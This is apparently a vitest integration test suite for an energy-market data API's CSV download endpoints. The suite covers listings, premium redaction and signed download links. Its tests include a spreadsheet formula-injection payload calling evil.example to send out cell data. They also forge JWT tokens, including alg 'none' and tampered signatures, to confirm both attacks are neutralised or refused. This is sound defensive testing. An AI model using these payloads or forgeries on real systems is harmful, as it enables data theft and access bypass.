import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { startTestServer, type TestServer } from './support/testServer.js';
import { csvCell, toCsv } from '../../contract/csv.js';

let server: TestServer;
let premium: string;
let plain: string;

beforeAll(async () => {
  server = await startTestServer();
  premium = await server.tokenFor('member@northwind.test');
  plain = await server.tokenFor('member@contoso.test');
});
afterAll(() => server?.close());

interface LicensesRow { id: number; state: string; stateName: string; commodity: string; broker: boolean; supplier: boolean; aggregator: boolean }
interface OffersRow { id: number; state: string; stateName: string; commodity: string; supplier: boolean; utility: boolean; residential: boolean; smallCommercial: boolean }

async function get<T>(path: string, token = premium): Promise<T> {
  const response = await server.api(path, { token });
  expect(response.status, await response.clone().text()).toBe(200);
  return (await response.json()) as T;
}

/** Parses RFC 4180 CSV (quoted cells, doubled quotes, CRLF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (ch === '"') quoted = false; else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') { row.push(cell); cell = ''; }
    else if (ch === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; }
    else cell += ch;
  }
  return rows;
}

async function downloadLink(kind: 'Licenses' | 'Offers', id: number, token = premium): Promise<string> {
  return (await get<{ data: string }>(`/api/RawData/download${kind}RawData/${id}`, token)).data;
}

async function fetchFile(url: string, init?: RequestInit) {
  const response = await fetch(url, init);
  const buffer = Buffer.from(await response.arrayBuffer());
  return { response, buffer, text: buffer.toString('utf8') };
}

const texasElectric = async () => (await get<{ data: LicensesRow[] }>('/api/RawData/licensesRawData')).data.find((r) => r.state === 'TX' && r.commodity === 'Electric')!;

describe('raw data lists', () => {
  it('lists one licenses row per state and commodity with the kinds of company the file holds', async () => {
    const { data } = await get<{ data: LicensesRow[] }>('/api/RawData/licensesRawData');
    const { rows } = await server.db.query<{ state: string; commodity: string; broker: boolean; supplier: boolean; aggregator: boolean }>(`
      select l.state_code as state, l.commodity, bool_or(c.company_type = 'broker') as broker,
             bool_or(c.company_type = 'supplier') as supplier, bool_or(c.company_type = 'aggregator') as aggregator
        from licenses l join companies c on c.id = l.company_id where l.is_latest group by 1, 2`);
    expect(data).toHaveLength(rows.length);
    for (const expected of rows) {
      expect(data.find((r) => r.state === expected.state && r.commodity === expected.commodity)).toMatchObject(expected);
    }
    expect(new Set(data.map((r) => r.id)).size).toBe(data.length);
    expect(await texasElectric()).toMatchObject({ stateName: 'Texas', commodity: 'Electric' });
    // Not every regulator licenses brokers or aggregators: the columns tell the files apart.
    for (const column of ['broker', 'aggregator'] as const) {
      expect(new Set(data.map((r) => r[column])), column).toEqual(new Set([true, false]));
    }
  });

  it('lists one offers row per state and commodity with supplier, utility, residential and smallCommercial', async () => {
    const { data } = await get<{ data: OffersRow[] }>('/api/RawData/OffersRawData');
    const { rows } = await server.db.query<{ n: number }>('select count(distinct (state_code, commodity))::int as n from retail_offers');
    expect(rows[0].n).toBeGreaterThan(20);
    expect(data).toHaveLength(rows[0].n);
    // Texas has no utility price to compare (ERCOT); its suppliers post residential and small-commercial offers.
    const texas = data.find((r) => r.state === 'TX' && r.commodity === 'Electric')!;
    expect(texas).toMatchObject({ supplier: true, utility: false, residential: true, smallCommercial: true });
    expect(data.every((r) => typeof r.smallCommercial === 'boolean')).toBe(true);
    // The columns tell the markets apart: each of them is Yes for some files and No for others.
    for (const column of ['supplier', 'utility', 'smallCommercial'] as const) {
      expect(new Set(data.map((r) => r[column])), column).toEqual(new Set([true, false]));
    }
  });

  it('needs a signed-in user with Insights access', async () => {
    for (const path of ['/api/RawData/licensesRawData', '/api/RawData/OffersRawData', '/api/RawData/downloadLicensesRawData/11']) {
      expect((await server.api(path)).status).toBe(401);
      expect((await server.api(path, { token: await server.tokenFor('noaccess@contoso.test') })).status).toBe(403);
    }
  });

  it('answers 404 for an unknown file and 400 for a bad id', async () => {
    expect((await server.api('/api/RawData/downloadLicensesRawData/99999', { token: premium })).status).toBe(404);
    expect((await server.api('/api/RawData/downloadOffersRawData/13', { token: premium })).status).toBe(404);
    const bad = await server.api('/api/RawData/downloadLicensesRawData/abc', { token: premium });
    expect(bad.status).toBe(400);
    expect((await bad.json()).message).toMatch(/^Invalid request: params\/id/);
  });
});

describe('licenses file', () => {
  it('is a real CSV of the current latest licenses of that state and commodity, named after them', async () => {
    const row = await texasElectric();
    const url = await downloadLink('Licenses', row.id);
    expect(url.startsWith(`${server.baseUrl}/downloads/raw-data?token=`)).toBe(true);
    const { response, buffer, text } = await fetchFile(url);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const today = new Date().toISOString().slice(0, 10);
    expect(response.headers.get('content-disposition')).toBe(
      `attachment; filename="Texas_Electric_licenses_${today}.csv"; filename*=UTF-8''Texas_Electric_licenses_${today}.csv`);
    expect(response.headers.get('cache-control')).toContain('no-store');
    expect([...buffer.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);

    const [header, ...records] = parseCsv(text.slice(1));
    expect(header).toEqual(['State', 'Commodity', 'Company Name', 'Associated Legal Name', 'Company Type', 'License Type', 'License Number',
      'License Status', 'Date Issued', 'Expiry Date', 'Last Found On', 'Source URL', 'Official Website']);
    const { rows } = await server.db.query<{ license_number: string; legal_name: string }>(`
      select l.license_number, c.legal_name from licenses l join companies c on c.id = l.company_id
       where l.is_latest and l.state_code = 'TX' and l.commodity = 'Electric' order by lower(c.legal_name), l.id`);
    expect(records).toHaveLength(rows.length);
    expect(records.map((r) => r[6])).toEqual(rows.map((r) => r.license_number));
    expect(records.every((r) => r.length === header.length && r[0] === 'Texas' && r[1] === 'Electric')).toBe(true);
    expect(records.some((r) => r[5].includes('|') || r[5].includes('n/a'))).toBe(false);
    expect(text.endsWith('\r\n')).toBe(true);
  });

  it('follows the database: a new license shows up in the next file', async () => {
    const row = await texasElectric();
    const before = parseCsv((await fetchFile(await downloadLink('Licenses', row.id))).text.slice(1)).length;
    const { rows: [company] } = await server.db.query<{ id: string }>(`select id from companies order by legal_name limit 1`);
    const { rows: [added] } = await server.db.query<{ id: number }>(`
      insert into licenses (state_code, company_id, associated_legal_name, commodity, license_number, license_type, license_registered_date)
      values ('TX', $1, 'Fresh License Co', 'Electric', 'NEW-1', 'Supplier', current_date) returning id`, [company.id]);
    try {
      const after = parseCsv((await fetchFile(await downloadLink('Licenses', row.id))).text.slice(1));
      expect(after).toHaveLength(before + 1);
      expect(after.some((r) => r[3] === 'Fresh License Co' && r[6] === 'NEW-1')).toBe(true);
    } finally {
      await server.db.query('delete from licenses where id = $1', [added.id]);
    }
  });

  it('neutralises cells a spreadsheet would run as a formula', async () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    const { rows: [company] } = await server.db.query<{ id: string }>(`
      insert into companies (id, legal_name, email_domain, company_type) values (gen_random_uuid(), $1, 'evil.example', 'broker') returning id`, [evil]);
    await server.db.query(`
      insert into licenses (state_code, company_id, associated_legal_name, commodity, license_number, license_type, license_status)
      values ('TX', $1, '@SUM(1+1)', 'Electric', '+15551234', '-Broker', '\tActive')`, [company.id]);
    try {
      const row = await texasElectric();
      const { text } = await fetchFile(await downloadLink('Licenses', row.id));
      const record = parseCsv(text.slice(1)).find((r) => r[2].includes('HYPERLINK'))!;
      expect(record[2]).toBe(`'${evil}`);
      expect(record[3]).toBe(`'@SUM(1+1)`);
      expect(record[5]).toBe(`'-Broker`);
      expect(record[6]).toBe(`'+15551234`);
      expect(record[7]).toBe(`'\tActive`);
      // On the wire the dangerous cell is quoted and starts with the apostrophe.
      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
    } finally {
      await server.db.query('delete from companies where id = $1', [company.id]);
    }
  });

  it("writes the year-0001 'no date' placeholder as an empty cell, as the page shows N/A", async () => {
    const row = await texasElectric();
    const { rows: [company] } = await server.db.query<{ id: string }>(`select id from companies order by legal_name limit 1`);
    const { rows: [added] } = await server.db.query<{ id: number }>(`
      insert into licenses (state_code, company_id, associated_legal_name, commodity, license_number, license_type,
                            license_registered_date, license_expiry_date, last_found_on)
      values ('TX', $1, 'Placeholder Dates Co', 'Electric', 'NODATE-1', 'Supplier', '0001-01-01', '0001-01-01', '2026-01-02') returning id`, [company.id]);
    try {
      const [header, ...records] = parseCsv((await fetchFile(await downloadLink('Licenses', row.id))).text.slice(1));
      const record = records.find((r) => r[6] === 'NODATE-1')!;
      const cell = (name: string) => record[header.indexOf(name)];
      expect([cell('Date Issued'), cell('Expiry Date'), cell('Last Found On')]).toEqual(['', '', '2026-01-02']);
      expect(records.flat().some((value) => value.startsWith('0001-'))).toBe(false);
    } finally {
      await server.db.query('delete from licenses where id = $1', [added.id]);
    }
  });

  it('holds no premium values for a user without premium data', async () => {
    const row = await texasElectric();
    const full = parseCsv((await fetchFile(await downloadLink('Licenses', row.id, premium))).text.slice(1));
    const redacted = parseCsv((await fetchFile(await downloadLink('Licenses', row.id, plain))).text.slice(1));
    expect(redacted).toHaveLength(full.length);
    expect(redacted[0]).toEqual(full[0]);
    const premiumColumns = ['License Number', 'License Status', 'Date Issued', 'Expiry Date', 'Last Found On', 'Source URL'].map((n) => full[0].indexOf(n));
    expect(full.slice(1).some((r) => premiumColumns.every((i) => r[i] !== ''))).toBe(true);
    for (const record of redacted.slice(1)) {
      for (const i of premiumColumns) expect(record[i]).toBe('');
      expect(record[2]).not.toBe('');
    }
    const numbers = new Set(full.slice(1).map((r) => r[6]).filter(Boolean));
    expect([...numbers].some((n) => redacted.flat().includes(n))).toBe(false);
  });
});

describe('offers file', () => {
  it('holds the retail offers of that state and commodity', async () => {
    const { data } = await get<{ data: OffersRow[] }>('/api/RawData/OffersRawData');
    const row = data.find((r) => r.state === 'PA' && r.commodity === 'Natural Gas')!;
    const { response, text } = await fetchFile(await downloadLink('Offers', row.id, plain));
    expect(response.status).toBe(200);
    expect(response.headers.get('content-disposition')).toContain('Pennsylvania_Natural-Gas_offers_');
    const [header, ...records] = parseCsv(text.slice(1));
    expect(header).toEqual(['State', 'Commodity', 'Offered By', 'Supplier', 'Utility', 'Customer Class', 'Rate Type', 'Price', 'Price Unit',
      'Term (months)', 'Early Termination Fee', 'Monthly Fee', 'Renewable %', 'Posted Date', 'Valid Until', 'Product', 'Source Key']);
    const { rows } = await server.db.query<{ n: number }>(`select count(*)::int as n from retail_offers where state_code = 'PA' and commodity = 'Natural Gas'`);
    expect(records).toHaveLength(rows[0].n);
    expect(new Set(records.map((r) => r[2]))).toEqual(new Set(['Supplier', 'Utility']));
    for (const r of records) {
      expect(r[3] === '').toBe(r[2] === 'Utility');
      expect(Number(r[7])).toBeGreaterThan(0);
      expect(r[8]).toBe('therm');
      expect(r[13]).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    }
  });
});

describe('download link protection', () => {
  it('is refused once expired (links live 5 minutes)', async () => {
    const row = await texasElectric();
    const url = await downloadLink('Licenses', row.id);
    const token = new URL(url).searchParams.get('token')!;
    // A compact JWS: header.payload.signature, HS256.
    const [header, payload] = token.split('.');
    expect(JSON.parse(Buffer.from(header, 'base64url').toString())).toMatchObject({ alg: 'HS256' });
    const claims = JSON.parse(Buffer.from(payload, 'base64url').toString());
    expect(claims.exp * 1000 - Date.now()).toBeGreaterThan(4 * 60_000);
    expect(claims.exp * 1000 - Date.now()).toBeLessThanOrEqual(5 * 60_000);
    expect((await fetch(url)).status).toBe(200);
    // Only Date is faked: the server in this process then lives six minutes later.
    vi.useFakeTimers({ toFake: ['Date'], now: Date.now() + 6 * 60_000 });
    try {
      const response = await fetch(url);
      expect(response.status).toBe(403);
      expect((await response.json()).message).toBe('This download link has expired. Start the download again.');
    } finally {
      vi.useRealTimers();
    }
  });

  it('is refused when tampered with (another file, another user, premium raised, bad signature)', async () => {
    const row = await texasElectric();
    const url = await downloadLink('Licenses', row.id, plain);
    const token = new URL(url).searchParams.get('token')!;
    const [header, payload, signature] = token.split('.');
    const claims = JSON.parse(Buffer.from(payload, 'base64url').toString());
    const encode = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
    const forge = (changes: object) => `${header}.${encode({ ...claims, ...changes })}.${signature}`;
    for (const forged of [
      forge({ fileId: row.id + 1 }),
      forge({ premium: true }),
      forge({ sub: '0d7e6f4a-1111-4000-8000-000000000003' }),
      forge({ exp: claims.exp + 3600 }),
      // The signature's first character changed: it carries six whole bits, where the last one of an HS256 signature
      // carries two and decodes the same for several characters (a replaced ending was once the original one).
      `${header}.${payload}.${signature[0] === 'A' ? 'B' : 'A'}${signature.slice(1)}`,
      `${header}.${payload}`,
      // Unsigned ("alg": "none") with the same claims.
      `${encode({ alg: 'none' })}.${payload}.`,
      'not-a-token',
    ]) {
      const response = await fetch(`${server.baseUrl}/downloads/raw-data?token=${forged}`);
      expect(response.status, forged).toBe(403);
      expect((await response.json()).message).toBe('This download link is not valid.');
    }
    expect((await fetch(url)).status).toBe(200);
  });

  it("works only for the user who asked: another user's token is refused, a blocked user's link dies", async () => {
    const row = await texasElectric();
    const url = await downloadLink('Licenses', row.id, plain);
    const other = await fetch(url, { headers: { authorization: `Bearer ${premium}` } });
    expect(other.status).toBe(403);
    expect((await other.json()).message).toBe('This download link belongs to another user.');
    expect((await fetch(url, { headers: { authorization: `Bearer ${plain}` } })).status).toBe(200);

    await server.db.query(`update users set status_code = 10900 where email_address = 'member@contoso.test'`);
    try {
      expect((await fetch(url)).status).toBe(401);
    } finally {
      await server.db.query(`update users set status_code = 10800 where email_address = 'member@contoso.test'`);
    }
    expect((await fetch(url)).status).toBe(200);
  });
});

describe('csv cells', () => {
  it('quotes separators, quotes and line breaks, and neutralises formula starts', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    for (const start of ['=', '+', '-', '@']) expect(csvCell(`${start}1`)).toBe(`'${start}1`);
    expect(csvCell('\tx')).toBe(`'\tx`);
    expect(csvCell('\rx')).toBe(`"'\rx"`);
    expect(csvCell(-1.5)).toBe('-1.5');
    expect(csvCell(null)).toBe('');
    expect(toCsv(['A', 'B'], [[1, 'x']])).toBe('\uFEFFA,B\r\n1,x\r\n');
  });
});
